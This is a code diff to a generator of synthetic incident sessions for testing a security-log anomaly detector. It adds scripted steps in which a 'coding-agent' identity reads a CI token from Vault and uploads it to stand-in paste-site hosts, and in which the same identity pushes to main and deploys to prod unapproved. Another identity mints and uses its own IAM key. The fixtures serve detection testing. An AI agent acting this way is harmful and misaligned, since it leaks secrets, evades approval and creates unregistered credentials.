@@ -1,10 +1,11 @@
-import type { Rng } from './rng.js';
+import { uuid7, type Rng } from './rng.js';
 import {
   argoStatus,
   argoSync,
   checkPolls,
   codingAgentSession,
   dataPipelineSession,
+  GITHUB_API,
   legacySyncSession,
   newRelease,
   releaseCommit,
@@ -18,7 +19,9 @@ import { INCIDENT_KINDS, type IncidentKind } from './types.js';
 /**
  * Injected incidents: a plausible session of some identity with one step that should not be
  * there (a tool it never uses, egress after a secret read, a prod deploy nobody approved, any
- * activity of a revoked identity). That step carries the incident kind as ground truth.
+ * activity of a revoked identity, a key it created for itself), sometimes with the steps that
+ * follow from it (a second upload, the work done with the new key). That one step carries the
+ * incident kind as ground truth.
  */
 
 interface IncidentVariant {
@@ -33,12 +36,17 @@ function inject(steps: Step[], extra: Step, rng: Rng): Step[] {
   return [...steps.slice(0, at), extra, ...steps.slice(at)];
 }
 
+// Hosts whose registrable domain is the paste site itself (`hastebin-mirror.example`, not
+// `example.org`): new-egress findings are about registrable domains.
 const EXFIL_HOSTS = [
   'paste.demo-drop.net',
-  'hastebin-mirror.example.org',
+  'hastebin-mirror.example',
   'files.tmpshare-demo.io',
-  'gist-cache.example.net',
+  'gist-cache.example',
 ];
+
+/** Paste sites that hand every upload its own random subdomain. */
+const PASTE_SITES = ['paste-site.example', 'demo-drop.net', 'tmpshare-demo.io'];
 
 function exfiltration(ctx: ScriptCtx): Step {
   const base = ctx.rng.pick(EXFIL_HOSTS);
@@ -56,6 +64,54 @@ function exfiltration(ctx: ScriptCtx): Step {
     },
     incident: 'new_egress_after_secret_read',
   });
+}
+
+/** An upload to a fresh random subdomain of `site` (paste sites give each paste its own host). */
+function pastePost(ctx: ScriptCtx, site: string, incident?: IncidentKind): Step {
+  const host = `${ctx.rng.hex(8)}.${site}`;
+  const url = `https://${host}/upload`;
+  return step('http.post', ctx.gap(), {
+    outcome: 'success',
+    resource: res('url', url),
+    target_domain: host,
+    args: {
+      url,
+      method: 'POST',
+      content_type: 'application/octet-stream',
+      body_bytes: ctx.rng.int(200, 4_000),
+      user_agent: 'node-fetch/3.3.2',
+    },
+    ...(incident ? { incident } : {}),
+  });
+}
+
+/**
+ * coding-agent, in the middle of an ordinary run, reads a CI token from Vault (a secret it never
+ * reads) and posts it to a paste site, then once more later in the run to another random
+ * subdomain of the same site: one new-egress finding about the site, listing both hosts.
+ */
+function secretToPasteSubdomains(ctx: ScriptCtx): Step[] {
+  const run = codingAgentSession(ctx);
+  const at = ctx.rng.int(1, run.length - 1);
+  const site = ctx.rng.pick(PASTE_SITES);
+  const read = step('vault.read', ctx.gap(), {
+    outcome: 'success',
+    resource: res('secret', 'kv/ci/npm-publish-token'),
+    args: {
+      mount: 'kv',
+      path: 'ci/npm-publish-token',
+      version: ctx.rng.int(1, 4),
+      accessor: `hmac-sha256:${ctx.rng.hex(64)}`,
+      request_id: uuid7(ctx.startMs, ctx.rng),
+    },
+  });
+  return [
+    ...run.slice(0, at),
+    read,
+    pastePost(ctx, site, 'new_egress_after_secret_read'),
+    ...run.slice(at),
+    pastePost(ctx, site),
+  ];
 }
 
 const NEW_TOOL_STEPS = {
@@ -94,6 +150,76 @@ function unapprovedProdDeploy(ctx: ScriptCtx): Step[] {
   ];
 }
 
+/**
+ * coding-agent ships its own change: commit, push to main and a prod sync with no approval
+ * and no test run at all (it never pushes or deploys otherwise).
+ */
+function codingAgentShipsToProd(ctx: ScriptCtx): Step[] {
+  const r = { ...newRelease(ctx), repo: 'acme/api', name: 'api' };
+  const repo = res('repo', 'acme/api');
+  const path = ctx.rng.pick(['api/routes/orders.py', 'api/pagination.py', 'api/webhooks/sender.py']);
+  const message = `fix: ${ctx.rng.pick(['pagination off by one', 'webhook retry backoff', 'order totals rounding'])}`;
+  return [
+    step('repo.search', ctx.gap(), {
+      resource: repo,
+      args: {
+        repo: 'acme/api',
+        query: 'def ',
+        path_glob: 'api/**/*.py',
+        case_sensitive: false,
+        max_results: 20,
+      },
+    }),
+    step('repo.read_file', ctx.gap(), {
+      resource: res('file', `acme/api:${path}`),
+      args: { repo: 'acme/api', path, ref: 'main', start_line: 1, end_line: ctx.rng.int(80, 400) },
+    }),
+    step('git.commit', ctx.gap(), {
+      outcome: 'success',
+      resource: repo,
+      args: {
+        branch: 'main',
+        message,
+        parent: r.parent,
+        files: [path],
+        author: 'coding-agent <coding-agent@acme.dev>',
+      },
+    }),
+    step('git.push', ctx.gap(), {
+      outcome: 'success',
+      resource: repo,
+      target_domain: GITHUB_API,
+      args: {
+        remote: 'git@github.com:acme/api.git',
+        refspec: 'refs/heads/main:refs/heads/main',
+        before: r.parent,
+        after: r.sha,
+      },
+    }),
+    { ...argoSync(ctx, r, 'prod'), outcome: 'success', incident: 'deploy_without_approval' },
+    argoStatus(ctx, r, 'prod'),
+  ];
+}
+
+/**
+ * data-pipeline mints itself a long-lived IAM access key partway through an ordinary run and
+ * does the rest of the run with it: persistence, and a credential nobody registered.
+ */
+function pipelineMintsOwnKey(ctx: ScriptCtx): Step[] {
+  const run = dataPipelineSession(ctx);
+  // After the secret read and the first partition read.
+  const at = ctx.rng.int(2, run.length - 1);
+  const key = `akid:fp-${ctx.rng.hex(12)}`;
+  const create = step('iam.create_access_key', ctx.gap(), {
+    outcome: 'success',
+    resource: res('access_key', key),
+    target_domain: 'iam.amazonaws.com',
+    args: { UserName: 'svc-data-pipeline', Status: 'Active' },
+    incident: 'credential_created_then_used',
+  });
+  return [...run.slice(0, at), create, ...run.slice(at).map((s) => ({ ...s, credential: key }))];
+}
+
 const INCIDENT_VARIANTS: readonly IncidentVariant[] = [
   {
     kind: 'new_tool',
@@ -116,7 +242,14 @@ const INCIDENT_VARIANTS: readonly IncidentVariant[] = [
     identity: 'data-pipeline',
     build: (ctx) => inject(dataPipelineSession(ctx), exfiltration(ctx), ctx.rng),
   },
+  {
+    kind: 'new_egress_after_secret_read',
+    identity: 'coding-agent',
+    build: secretToPasteSubdomains,
+  },
   { kind: 'deploy_without_approval', identity: 'release-bot', build: unapprovedProdDeploy },
+  { kind: 'deploy_without_approval', identity: 'coding-agent', build: codingAgentShipsToProd },
+  { kind: 'credential_created_then_used', identity: 'data-pipeline', build: pipelineMintsOwnKey },
   {
     kind: 'revoked_identity_activity',
     identity: 'legacy-sync',
@@ -130,6 +263,7 @@ const VARIANTS_BY_KIND: Readonly<Record<IncidentKind, readonly IncidentVariant[]
   new_egress_after_secret_read: INCIDENT_VARIANTS.filter((v) => v.kind === 'new_egress_after_secret_read'),
   deploy_without_approval: INCIDENT_VARIANTS.filter((v) => v.kind === 'deploy_without_approval'),
   revoked_identity_activity: INCIDENT_VARIANTS.filter((v) => v.kind === 'revoked_identity_activity'),
+  credential_created_then_used: INCIDENT_VARIANTS.filter((v) => v.kind === 'credential_created_then_used'),
 };
 
 /**
